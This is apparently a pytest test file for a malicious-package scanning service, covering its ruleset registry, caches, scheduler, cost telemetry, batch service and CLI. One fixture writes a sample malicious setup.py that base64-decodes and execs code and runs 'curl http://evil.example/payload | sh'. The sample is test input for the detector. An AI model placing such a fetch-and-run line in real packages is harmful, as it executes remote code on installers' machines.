"""Registry, cache, scheduler and the batch-scanning service (plus the CLI)."""

import json

import pytest

from repro.cli import main as cli_main
from repro.evaluation.detector import PackageDetection, RuleScanner
from repro.scanserve import (
    BoundedQueue,
    DiskScanResultCache,
    RuleCostSample,
    RuleCostTracker,
    RulesetRegistry,
    ScanResultCache,
    ScanScheduler,
    ScanService,
    ScanServiceConfig,
    shard_items,
)
from repro.yarax import compile_source


def _tiny_yara(name="tiny", needle="needle_zzz"):
    return compile_source(
        f'rule {name} {{ strings: $a = "{needle}" condition: $a }}'
    )


# -- registry -----------------------------------------------------------------------


class TestRulesetRegistry:
    def test_empty_registry_raises(self):
        registry = RulesetRegistry()
        with pytest.raises(LookupError):
            registry.current()

    def test_publish_and_hot_swap(self):
        registry = RulesetRegistry()
        v1 = registry.publish(yara=_tiny_yara("first"), label="gen-1")
        assert registry.current().version == v1.version == 1
        v2 = registry.publish(yara=_tiny_yara("second"), label="gen-2")
        assert registry.current().version == v2.version == 2
        assert registry.versions() == [1, 2]

    def test_publish_without_activation(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("live"))
        staged = registry.publish(yara=_tiny_yara("staged"), activate=False)
        assert registry.current().version == 1
        registry.activate(staged.version)
        assert registry.current().version == staged.version

    def test_rollback(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("good"))
        registry.publish(yara=_tiny_yara("bad"))
        registry.activate(1)
        assert registry.current().index.stats().yara_rules == 1
        assert registry.current().yara.rule_names() == ["good"]

    def test_retire_rules(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("a"))
        registry.publish(yara=_tiny_yara("b"))
        registry.retire(1)
        assert registry.versions() == [2]
        with pytest.raises(ValueError):
            registry.retire(2)  # cannot retire the active version
        with pytest.raises(LookupError):
            registry.get(1)

    def test_publish_needs_rules(self):
        with pytest.raises(ValueError):
            RulesetRegistry().publish()

    def test_publish_generated(self, generated_rules):
        registry = RulesetRegistry()
        version = registry.publish_generated(generated_rules, label="pipeline")
        assert version.rule_count > 0
        assert "pipeline" in version.describe()


# -- cache --------------------------------------------------------------------------


class TestScanResultCache:
    def _detection(self, name="pkg==1.0"):
        return PackageDetection(
            package=name, actual_malicious=True, yara_rules=["r1"]
        )

    def test_roundtrip_and_stats(self):
        cache = ScanResultCache(max_entries=8)
        assert cache.get("fp", 1) is None
        cache.put("fp", 1, self._detection())
        hit = cache.get("fp", 1)
        assert hit is not None and hit.yara_rules == ["r1"]
        assert cache.stats.hits == 1 and cache.stats.misses == 1

    def test_version_isolation(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        assert cache.get("fp", 2) is None  # new ruleset version: no stale hits

    def test_returned_detections_are_copies(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        cache.get("fp", 1).yara_rules.append("mutated")
        assert cache.get("fp", 1).yara_rules == ["r1"]

    def test_lru_eviction(self):
        cache = ScanResultCache(max_entries=2)
        cache.put("a", 1, self._detection("a"))
        cache.put("b", 1, self._detection("b"))
        assert cache.get("a", 1) is not None  # refresh 'a'
        cache.put("c", 1, self._detection("c"))
        assert cache.get("b", 1) is None  # 'b' was least recently used
        assert cache.get("a", 1) is not None
        assert cache.stats.evictions == 1

    def test_invalidate_version(self):
        cache = ScanResultCache()
        cache.put("a", 1, self._detection())
        cache.put("b", 1, self._detection())
        cache.put("a", 2, self._detection())
        assert cache.invalidate_version(1) == 2
        assert len(cache) == 1


# -- persistent disk cache ----------------------------------------------------------


class TestDiskScanResultCache:
    def _detection(self, name="pkg==1.0"):
        return PackageDetection(
            package=name, actual_malicious=True,
            yara_rules=["r1"], semgrep_rules=["s1"],
        )

    def test_roundtrip(self, tmp_path):
        cache = DiskScanResultCache(tmp_path / "cache")
        assert cache.get("fp", 1) is None
        cache.put("fp", 1, self._detection())
        hit = cache.get("fp", 1)
        assert hit is not None
        assert (hit.package, hit.yara_rules, hit.semgrep_rules) == (
            "pkg==1.0", ["r1"], ["s1"],
        )
        assert cache.get("fp", 2) is None  # version isolation

    def test_entries_survive_restart(self, tmp_path):
        directory = tmp_path / "cache"
        first = DiskScanResultCache(directory)
        first.put("fp-a", 1, self._detection("a"))
        first.put("fp-b", 1, self._detection("b"))
        reborn = DiskScanResultCache(directory)  # fresh process attaches
        assert len(reborn) == 2
        assert reborn.get("fp-a", 1).package == "a"

    def test_lru_eviction_deletes_files(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory, max_entries=2)
        cache.put("a", 1, self._detection("a"))
        cache.put("b", 1, self._detection("b"))
        assert cache.get("a", 1) is not None  # refresh 'a'
        cache.put("c", 1, self._detection("c"))
        assert cache.get("b", 1) is None
        assert cache.get("a", 1) is not None
        assert len(list(directory.glob("*.json"))) == 2
        assert cache.stats.evictions == 1

    def test_corrupt_entries_dropped_on_load(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory)
        cache.put("fp", 1, self._detection())
        (directory / "garbage.json").write_text("{not json", encoding="utf-8")
        reborn = DiskScanResultCache(directory)
        assert len(reborn) == 1
        assert not (directory / "garbage.json").exists()

    def test_int_and_str_keys_never_serve_each_other(self, tmp_path):
        """Filenames stringify the key, so 1 and "1" share a file; a typed
        mismatch must read as a miss, not the other key's result."""
        cache = DiskScanResultCache(tmp_path / "cache")
        cache.put("fp", 1, self._detection("int-keyed"))
        cache.put("fp", "1", self._detection("str-keyed"))
        assert cache.get("fp", 1) is None  # overwritten file: miss, not a lie
        assert cache.get("fp", "1").package == "str-keyed"

    def test_invalidate_version_and_clear(self, tmp_path):
        cache = DiskScanResultCache(tmp_path / "cache")
        cache.put("a", 1, self._detection())
        cache.put("b", 2, self._detection())
        assert cache.invalidate_version(1) == 1
        assert len(cache) == 1
        cache.clear()
        assert len(cache) == 0
        assert not list((tmp_path / "cache").glob("*.json"))

    def test_service_cache_survives_restart(self, generated_rules, small_dataset, tmp_path):
        """A redeployed service keeps its warm cache via cache_dir."""
        config = ScanServiceConfig(mode="inprocess", cache_dir=str(tmp_path / "cache"))
        first = ScanService(config=config)
        first.publish_generated(generated_rules)
        cold = first.scan_batch(small_dataset.packages[:6])
        assert cold.cache_hits == 0

        reborn = ScanService(config=config)  # simulates a process restart
        reborn.publish_generated(generated_rules)  # republished as v1 again
        warm = reborn.scan_batch(small_dataset.packages[:6])
        assert warm.cache_hits == 6
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in warm.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in cold.detections]

    def test_restart_with_different_rules_never_serves_stale_results(
        self, small_dataset, tmp_path
    ):
        """Both processes publish *v1*, but different rules: results keyed on
        the ruleset content digest must not leak across."""
        config = ScanServiceConfig(mode="inprocess", cache_dir=str(tmp_path / "cache"))
        first = ScanService(config=config)
        first.publish(yara=_tiny_yara("catch_all", needle="import"))
        hot = first.scan_batch(small_dataset.packages[:4])
        assert all(d.matched_rules for d in hot.detections)

        reborn = ScanService(config=config)
        reborn.publish(yara=_tiny_yara("miss_all", needle="no_such_token_anywhere"))
        assert reborn.registry.current().version == 1  # same version number!
        fresh = reborn.scan_batch(small_dataset.packages[:4])
        assert fresh.cache_hits == 0
        assert all(not d.matched_rules for d in fresh.detections)


# -- per-rule cost accounting --------------------------------------------------------


class TestRuleCostAccounting:
    def test_sample_records_and_tracker_merges(self):
        sample = RuleCostSample()
        sample.record("yara", "r1", 0.5, "pkg-a")
        sample.record("yara", "r1", 1.5, "pkg-b")
        sample.record("semgrep", "s1", 0.25, "pkg-a")
        tracker = RuleCostTracker()
        tracker.absorb(sample)
        other = RuleCostSample()
        other.record("yara", "r1", 2.0, "pkg-c")
        tracker.absorb(other)
        top = tracker.top_slow_rules(2)
        assert top[0].rule_key == "r1"
        assert top[0].evaluations == 3
        assert top[0].max_seconds == 2.0
        assert top[0].slowest_package == "pkg-c"
        assert top[0].total_seconds == pytest.approx(4.0)
        assert top[0].mean_seconds == pytest.approx(4.0 / 3)

    def test_ranking_modes(self):
        tracker = RuleCostTracker()
        sample = RuleCostSample()
        for _ in range(10):  # cheap but hot
            sample.record("yara", "hot", 0.2, "p")
        sample.record("yara", "spiky", 1.0, "q")
        tracker.absorb(sample)
        assert tracker.top_slow_rules(1, by="max")[0].rule_key == "spiky"
        assert tracker.top_slow_rules(1, by="total")[0].rule_key == "hot"
        with pytest.raises(ValueError):
            tracker.top_slow_rules(1, by="p99")

    def test_service_populates_top_slow_rules(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:6])
        top = svc.top_slow_rules(5)
        assert top
        known = set(generated_rules.compile_yara().rule_names()) | set(
            generated_rules.compile_semgrep().rule_ids()
        )
        assert all(cost.rule_key in known for cost in top)
        assert all(cost.evaluations > 0 for cost in top)
        assert top == sorted(top, key=lambda c: c.max_seconds, reverse=True)
        assert "evals" in top[0].describe()

    def test_tracking_can_be_disabled(self, generated_rules, small_dataset):
        svc = ScanService(
            config=ScanServiceConfig(mode="inprocess", track_rule_costs=False)
        )
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:4])
        assert svc.top_slow_rules() == []


class TestTelemetryDeterminism:
    def test_cost_ties_break_on_engine_then_rule_name(self):
        """Equal costs must rank identically across runs (satellite: stable
        secondary sort), regardless of recording order."""
        orders = []
        for names in (("zeta", "alpha", "mid"), ("mid", "zeta", "alpha")):
            tracker = RuleCostTracker()
            sample = RuleCostSample()
            for name in names:
                sample.record("yara", name, 0.5, "pkg")
            sample.record("semgrep", "alpha", 0.5, "pkg")
            tracker.absorb(sample)
            orders.append([(c.engine, c.rule_key) for c in tracker.top_slow_rules(4)])
        assert orders[0] == orders[1]
        assert orders[0] == [
            ("semgrep", "alpha"), ("yara", "alpha"), ("yara", "mid"), ("yara", "zeta"),
        ]


def _needle_yara(atoms: int):
    """One rule per atom: ``atoms`` distinct literals in the index vocabulary."""
    return compile_source(
        "\n".join(
            f'rule r{i} {{ strings: $a = "needle_{i:04d}" condition: $a }}'
            for i in range(atoms)
        )
    )


class TestAutomatonLaneThreshold:
    def test_index_lane_follows_vocabulary_size(self):
        from repro.scanserve import AUTOMATON_THRESHOLD, RuleIndex

        below = RuleIndex(yara=_needle_yara(AUTOMATON_THRESHOLD - 1))
        at = RuleIndex(yara=_needle_yara(AUTOMATON_THRESHOLD))
        assert (below.stats().atoms, at.stats().atoms) == (191, 192)
        assert below.lane == below.stats().lane == "substring"
        assert at.lane == at.stats().lane == "automaton"
        # both lanes find the same atoms (the parity contract)
        assert below.yara_rule_names("has needle_0007 inside") == ["r7"]
        assert at.yara_rule_names("has needle_0007 inside") == ["r7"]

    def test_service_records_the_chosen_lane(self, small_dataset):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        service.publish(yara=_needle_yara(192))
        service.scan_batch(small_dataset.packages[:3])
        assert service.stats.lanes == {"automaton": 1}

    def test_naive_mode_is_recorded_as_its_own_lane(self, small_dataset):
        service = ScanService(
            config=ScanServiceConfig(mode="inprocess", use_index=False)
        )
        service.publish(yara=_tiny_yara())
        service.scan_batch(small_dataset.packages[:3])
        assert service.stats.lanes == {"naive": 1}

    def test_fully_cached_batches_count_as_the_cache_lane(self, small_dataset):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        service.publish(yara=_tiny_yara())
        service.scan_batch(small_dataset.packages[:3])
        service.scan_batch(small_dataset.packages[:3])  # all cache hits
        assert service.stats.lanes == {"substring": 1, "cache": 1}


# -- scheduler ----------------------------------------------------------------------


def _double_shard(shard):
    return [value * 2 for _, value in shard]


class TestScheduler:
    def test_shard_items_round_robin(self):
        shards = shard_items(["a", "b", "c", "d", "e"], 2)
        assert shards == [[(0, "a"), (2, "c"), (4, "e")], [(1, "b"), (3, "d")]]

    def test_more_shards_than_items(self):
        assert shard_items(["a"], 4) == [[(0, "a")]]

    def test_inprocess_run(self):
        scheduler = ScanScheduler(mode="inprocess")
        report = scheduler.run(shard_items([1, 2, 3, 4], 2), _double_shard)
        assert report.results == [[2, 6], [4, 8]]
        assert report.mode == "inprocess"

    def test_process_run_or_fallback(self):
        scheduler = ScanScheduler(mode="auto", max_workers=2)
        report = scheduler.run(shard_items(list(range(8)), 4), _double_shard)
        flattened = sorted(v for shard in report.results for v in shard)
        assert flattened == [v * 2 for v in range(8)]
        assert report.mode in ("process", "inprocess")

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError):
            ScanScheduler(mode="celery")

    def test_bounded_queue_backpressure(self):
        queue = BoundedQueue(max_items=2)
        assert queue.put(1) and queue.put(2)
        assert not queue.put(3, timeout=0.01)  # full: put times out
        assert queue.get() == 1
        assert queue.put(3, timeout=0.01)
        assert queue.drain() == [2, 3]
        queue.close()
        with pytest.raises(RuntimeError):
            queue.get()

    def test_chunk_items_contiguous_slices(self):
        from repro.scanserve import chunk_items

        tagged = list(enumerate("abcde"))
        assert chunk_items(tagged, 2) == [
            [(0, "a"), (1, "b")],
            [(2, "c"), (3, "d")],
            [(4, "e")],
        ]
        assert chunk_items(tagged, 10) == [tagged]
        assert chunk_items([], 3) == []
        with pytest.raises(ValueError):
            chunk_items(tagged, 0)


class TestChunkedDispatch:
    def test_chunk_size_splits_the_batch_without_changing_detections(
        self, small_dataset
    ):
        packages = small_dataset.packages[:8]
        whole = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        whole.publish(yara=_tiny_yara())
        chunked = ScanService(
            config=ScanServiceConfig(mode="inprocess", enable_cache=False, chunk_size=3)
        )
        chunked.publish(yara=_tiny_yara())
        a = whole.scan_batch(packages)
        b = chunked.scan_batch(packages)
        assert [(d.package, d.yara_rules) for d in a.detections] == [
            (d.package, d.yara_rules) for d in b.detections
        ]

    def test_process_mode_matches_inprocess(self, small_dataset):
        packages = small_dataset.packages[:8]
        inproc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        inproc.publish(yara=_tiny_yara())
        proc = ScanService(
            config=ScanServiceConfig(
                shards=2, mode="process", enable_cache=False, chunk_size=4
            )
        )
        proc.publish(yara=_tiny_yara())
        a = inproc.scan_batch(packages)
        b = proc.scan_batch(packages)
        assert b.mode == "process"
        assert [(d.package, d.yara_rules) for d in a.detections] == [
            (d.package, d.yara_rules) for d in b.detections
        ]

    def test_worker_attaches_from_version_blob(self, small_dataset):
        """The spawn-safe lane: a worker restores the publish-time compiled
        index from ``RulesetVersion.to_bytes()`` and scans identically."""
        import repro.scanserve.service as service_module

        registry = RulesetRegistry()
        version = registry.publish(yara=_tiny_yara())
        blob = version.to_bytes()
        saved_scanner = service_module._WORKER_SCANNER
        try:
            service_module._worker_init(blob, 1, True, False)
            worker_scanner = service_module._WORKER_SCANNER
            assert worker_scanner.index is not None
            live = RuleScanner.with_index(yara_rules=version.yara)
            for package in small_dataset.packages[:4]:
                assert (
                    worker_scanner.scan_package(package).yara_rules
                    == live.scan_package(package).yara_rules
                )
        finally:
            service_module._WORKER_SCANNER = saved_scanner


class TestScanPreparedBatch:
    def test_batch_scan_matches_per_package(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        scanner = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        batch = scanner.scan_prepared(small_dataset.packages)
        singles = [scanner.scan_package(p) for p in small_dataset.packages]
        assert [(d.package, d.yara_rules, d.semgrep_rules) for d in batch] == [
            (d.package, d.yara_rules, d.semgrep_rules) for d in singles
        ]


# -- service ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def service(generated_rules):
    svc = ScanService(config=ScanServiceConfig(shards=2, mode="inprocess"))
    svc.publish_generated(generated_rules, label="session rules")
    return svc


class TestScanService:
    def test_batch_parity_with_naive_scanner(
        self, service, generated_rules, small_dataset
    ):
        """The service's detections are identical to a naive RuleScanner pass."""
        naive = RuleScanner(
            yara_rules=generated_rules.compile_yara(),
            semgrep_rules=generated_rules.compile_semgrep(),
        ).scan(small_dataset.packages)
        batch = service.scan_batch(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]
        assert batch.result.confusion() == naive.confusion()

    def test_cache_serves_repeat_batches(self, service, small_dataset):
        before = service.cache.stats.hits
        batch = service.scan_batch(small_dataset.packages)
        assert batch.cache_hits == len(small_dataset.packages)
        assert service.cache.stats.hits > before

    def test_hot_swap_invalidates_results(self, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish(yara=_tiny_yara(needle="no_such_token_anywhere"))
        first = svc.scan_batch(small_dataset.packages[:4])
        assert all(not d.matched_rules for d in first.detections)
        # hot-swap in a rule that matches everything ('import' appears everywhere)
        svc.publish(yara=_tiny_yara("catch_all", needle="import"))
        second = svc.scan_batch(small_dataset.packages[:4])
        assert second.ruleset_version == first.ruleset_version + 1
        assert second.cache_hits == 0  # version key change bypasses stale entries
        assert all(d.matched_rules for d in second.detections)

    def test_shard_stats_cover_all_packages(self, small_dataset, generated_rules):
        svc = ScanService(
            config=ScanServiceConfig(shards=3, mode="inprocess", enable_cache=False)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages)
        assert len(batch.shard_stats) == 3
        assert sum(s.packages for s in batch.shard_stats) == len(
            small_dataset.packages
        )
        assert batch.packages_per_second > 0
        assert batch.result.timings.packages == len(small_dataset.packages)

    def test_scan_package_single(self, service, small_dataset):
        detection = service.scan_package(small_dataset.packages[0])
        assert detection.package == small_dataset.packages[0].identifier

    def test_to_json_report(self, service, small_dataset):
        batch = service.scan_batch(small_dataset.packages[:3])
        report = json.loads(batch.to_json())
        assert report["packages"] == 3
        assert len(report["detections"]) == 3
        assert {"package", "malicious", "matched_rules"} <= set(
            report["detections"][0]
        )

    def test_to_dict_summary_mode_replaces_detections_with_flagged(
        self, service, small_dataset
    ):
        batch = service.scan_batch(small_dataset.packages)
        full = batch.to_dict()
        summary = batch.to_dict(include_detections=False)
        assert "detections" not in summary
        assert "flagged" in summary and "flagged" not in full
        # the flagged list is exactly the malicious predictions of full mode
        assert summary["flagged"] == [
            d["package"] for d in full["detections"] if d["malicious"]
        ]
        assert summary["malicious"] == len(summary["flagged"]) == full["malicious"]
        # the telemetry envelope is identical either way
        for key in ("ruleset_version", "packages", "cache_hits", "mode", "shards"):
            assert summary[key] == full[key]
        # summary mode is what gateway job payloads embed: it must stay small
        assert json.loads(batch.to_json(include_detections=False)) == summary

    def test_match_threshold_respected(self, generated_rules, small_dataset):
        svc = ScanService(
            config=ScanServiceConfig(mode="inprocess", match_threshold=99)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages[:5])
        assert batch.result.confusion().true_positive == 0

    def test_service_stats_accumulate(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:4])
        svc.scan_batch(small_dataset.packages[:4])
        assert svc.stats.batches == 2
        assert svc.stats.packages_scanned == 8
        assert svc.stats.cache_hits == 4


# -- indexed RuleScanner ------------------------------------------------------------


class TestIndexedRuleScanner:
    def test_with_index_matches_naive(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        naive = RuleScanner(yara_rules=yara, semgrep_rules=semgrep)
        indexed = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        assert indexed.index is not None
        for package in small_dataset.packages:
            a = naive.scan_package(package)
            b = indexed.scan_package(package)
            assert (a.yara_rules, a.semgrep_rules) == (b.yara_rules, b.semgrep_rules)

    def test_scan_exposes_timings(self, generated_rules, small_dataset):
        scanner = RuleScanner(yara_rules=generated_rules.compile_yara())
        result = scanner.scan(small_dataset.packages[:5])
        assert result.timings.packages == 5
        assert result.timings.total_seconds > 0
        assert result.timings.yara_seconds > 0
        assert all(d.scan_seconds >= 0 for d in result.detections)


# -- CLI ----------------------------------------------------------------------------


class TestScanBatchCli:
    @pytest.fixture()
    def rules_dir(self, tmp_path, generated_rules):
        return str(generated_rules.save(tmp_path / "rules"))

    @pytest.fixture()
    def package_root(self, tmp_path):
        root = tmp_path / "pkgs"
        evil = root / "evil-pkg"
        evil.mkdir(parents=True)
        (evil / "setup.py").write_text(
            "import base64, os\n"
            'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
            'os.system("curl http://evil.example/payload | sh")\n',
            encoding="utf-8",
        )
        nice = root / "nice-pkg"
        nice.mkdir()
        (nice / "lib.py").write_text("def add(a, b):\n    return a + b\n", encoding="utf-8")
        return root

    def test_scan_batch_cli(self, rules_dir, package_root, tmp_path, capsys):
        report_path = tmp_path / "report.json"
        exit_code = cli_main(
            [
                "scan-batch",
                "--rules",
                rules_dir,
                "--shards",
                "2",
                "--mode",
                "inprocess",
                "--json",
                str(report_path),
                str(package_root),
            ]
        )
        output = capsys.readouterr().out
        assert "published ruleset v1" in output
        assert "pkg/s" in output
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["packages"] == 2
        assert exit_code in (0, 2)

    def test_scan_batch_cli_no_rules(self, tmp_path, package_root):
        assert (
            cli_main(
                ["scan-batch", "--rules", str(tmp_path / "none"), str(package_root)]
            )
            == 1
        )
